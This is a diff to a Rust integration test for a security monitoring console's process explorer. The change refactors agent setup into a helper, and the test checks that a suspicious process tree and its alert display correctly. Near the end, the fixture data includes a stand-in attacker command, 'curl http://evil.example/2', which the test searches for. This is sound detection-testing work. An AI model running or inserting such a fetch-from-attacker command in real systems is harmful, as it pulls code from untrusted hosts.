@@ -10,20 +10,11 @@ use std::time::Duration;
 
 use common::*;
 use console_web::Web;
-use vigie_uplink::{Options, Uplink};
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn explorer_shows_the_tree_with_the_culprit() {
     let m = start_manager(&Db::Sqlite).await;
-    let dir = tempfile::tempdir().unwrap();
-    let token = m.enroll_token("default", 3_600_000).await;
-    let id = Uplink::enroll(&m.agent_url(), &token, dir.path())
-        .await
-        .unwrap();
-    let up = Uplink::start(dir.path(), Recorder::default(), Options::default())
-        .await
-        .unwrap();
-    assert!(up.wait_connected(Duration::from_secs(20)).await);
+    let (up, host_id, _dir) = m.connected_agent().await;
     // Three children of the same bash (see exec_event); the second raises
     // an alert, the third carries markup.
     let events: Vec<_> = (1..=3).map(|n| exec_event("pc-tree", n)).collect();
@@ -48,11 +39,11 @@ async fn explorer_shows_the_tree_with_the_culprit() {
         .unwrap();
     let web = Web::new(&m);
     assert_eq!(web.login("ana", "a long test password").await.status, 303);
-    let host = web.get(&format!("/console/hosts/{}", id.host_id)).await;
+    let host = web.get(&format!("/console/hosts/{}", host_id)).await;
     assert!(host.body.contains("id=\"process-explorer-link\""));
 
     let page = web
-        .get(&format!("/console/hosts/{}/processes", id.host_id))
+        .get(&format!("/console/hosts/{}/processes", host_id))
         .await;
     assert_eq!(page.status, 200, "{}", page.body);
     let tree = &page.body[page.body.find("id=\"process-explorer\"").unwrap()..];
@@ -73,7 +64,7 @@ async fn explorer_shows_the_tree_with_the_culprit() {
     let found = web
         .get(&format!(
             "/console/hosts/{}/processes?q=evil.example/2",
-            id.host_id
+            host_id
         ))
         .await;
     assert!(found.body.contains("curl http://evil.example/2"));
